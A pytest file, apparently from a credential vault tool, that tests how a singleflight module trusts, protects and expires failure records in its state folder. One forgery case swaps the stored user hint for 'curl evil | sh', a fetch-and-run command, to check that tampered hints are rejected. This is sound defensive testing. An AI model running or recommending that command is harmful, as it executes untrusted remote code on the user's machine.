"""What flights leave in the state folder: whose records are believed, who can read them, and when they go."""

from __future__ import annotations

import json
import os
import shutil
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from support.flying import flights, network_failure, nothing, put, sign
from vault_core.errors import AccessDenied
from vault_core.sessions.singleflight import Flight, TakenOver


def failed(folder: Path) -> dict[str, Any]:
    """A failure of the step as it is kept."""
    with pytest.raises(AccessDenied):
        flights(folder).run("step", nothing, network_failure(AccessDenied("no", hint="awsv add work")))
    return dict(json.loads((folder / "step.failed").read_text()))


FORGED: dict[str, Callable[[dict[str, Any]], object]] = {
    "as it was": lambda kept: kept,
    "of another step": lambda kept: {**kept, "code": sign(f"failure of other: {kept['record']}")},
    "another hint": lambda kept: {**kept, "record": kept["record"].replace("awsv add work", "curl evil | sh")},
    "another code": lambda kept: {**kept, "record": kept["record"].replace('"exit_code": 6', '"exit_code": 0')},
    "another time": lambda kept: {**kept, "record": kept["record"].replace('"at": ', '"at": 1')},
    "no code": lambda kept: {"record": kept["record"]},
    "no record": lambda kept: {"code": kept["code"]},
    "of before": lambda kept: json.loads(kept["record"]),
}


@pytest.mark.parametrize("how", FORGED)
def test_only_a_failure_that_awsv_kept_is_told(tmp_path: Path, how: str) -> None:
    put(tmp_path / "step.failed", json.dumps(FORGED[how](failed(tmp_path))))
    if how == "as it was":
        with pytest.raises(TakenOver, match="no"):
            flights(tmp_path).run("step", nothing, lambda _: "made")
    else:
        assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


def test_a_failure_that_was_kept_for_another_step_is_not_told(tmp_path: Path) -> None:
    failed(tmp_path)
    put(tmp_path / "other.failed", (tmp_path / "step.failed").read_text())
    assert flights(tmp_path).run("other", nothing, lambda _: "made") == "made"


def test_a_failure_from_the_future_is_forgotten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    failed(tmp_path)
    now = time.time
    monkeypatch.setattr(time, "time", lambda: now() - 3600)
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


def test_a_pipe_in_a_records_place_holds_nobody_up(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "step.failed", 0o600)
    os.mkfifo(tmp_path / "step.leader", 0o600)
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


# -- the files ---------------------------------------------------------------------------------------------------------


def test_files_are_private_whatever_the_umask(tmp_path: Path) -> None:
    seen: set[str] = set()

    def lead(led: Flight) -> str:
        led.phase("network")
        seen.update(f"{path.name} {path.stat().st_mode & 0o777:o}" for path in (tmp_path / "f").iterdir())
        raise AccessDenied("no")

    before = os.umask(0)
    try:
        with pytest.raises(AccessDenied):
            flights(tmp_path / "f").run("step", nothing, lead)
    finally:
        os.umask(before)
    seen.update(f"{path.name} {path.stat().st_mode & 0o777:o}" for path in (tmp_path / "f").iterdir())
    assert seen == {"step.lock 600", "step.leader 600", "step.end 600", "step.failed 600"}
    assert (tmp_path / "f").stat().st_mode & 0o777 == 0o700


def test_files_of_steps_that_nobody_is_at_go_after_a_day(tmp_path: Path) -> None:
    now = time.time()
    for name, hours in (("old", 25), ("young", 23)):
        for suffix in ("lock", "leader", "failed"):
            put(tmp_path / f"{name}.{suffix}", "")
            os.utime(tmp_path / f"{name}.{suffix}", (now - hours * 3600,) * 2)
    flights(tmp_path).run("step", nothing, lambda _: "made")
    names = {path.name for path in tmp_path.iterdir()}
    assert names == {"young.lock", "young.leader", "young.failed", "step.lock"}


def test_a_folder_that_goes_meanwhile_takes_no_session_with_it(tmp_path: Path) -> None:
    def lead(_: Flight) -> str:
        shutil.rmtree(tmp_path / "f")
        return "made"

    assert flights(tmp_path / "f").run("step", nothing, lead) == "made"


def test_a_lock_that_is_held_stays_however_old_it_is(tmp_path: Path) -> None:
    """Its file is as old as the step; who removed it would let a second leader in."""
    inner: list[str] = []

    def lead(_: Flight) -> str:
        os.utime(tmp_path / "outer.lock", (time.time() - 10**6,) * 2)
        inner.append(flights(tmp_path).run("inner", nothing, lambda _: "inner"))
        assert (tmp_path / "outer.lock").exists()
        return "outer"

    assert flights(tmp_path).run("outer", nothing, lead) == "outer"
    assert inner == ["inner"]


def test_who_waits_for_a_lock_that_is_swept_meanwhile_leads_alone(tmp_path: Path) -> None:
    """Of many that join, sweep and lead at once only one is ever in the air."""
    in_the_air, most, done = [0], [0], threading.Lock()

    def lead(_: Flight) -> str:
        with done:
            in_the_air[0] += 1
            most[0] = max(most[0], in_the_air[0])
        os.utime(tmp_path / "step.lock", (time.time() - 10**6,) * 2)
        time.sleep(0.005)
        with done:
            in_the_air[0] -= 1
        return "made"

    def work() -> None:
        for _ in range(5):
            flights(tmp_path).run("step", nothing, lead)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == [1]
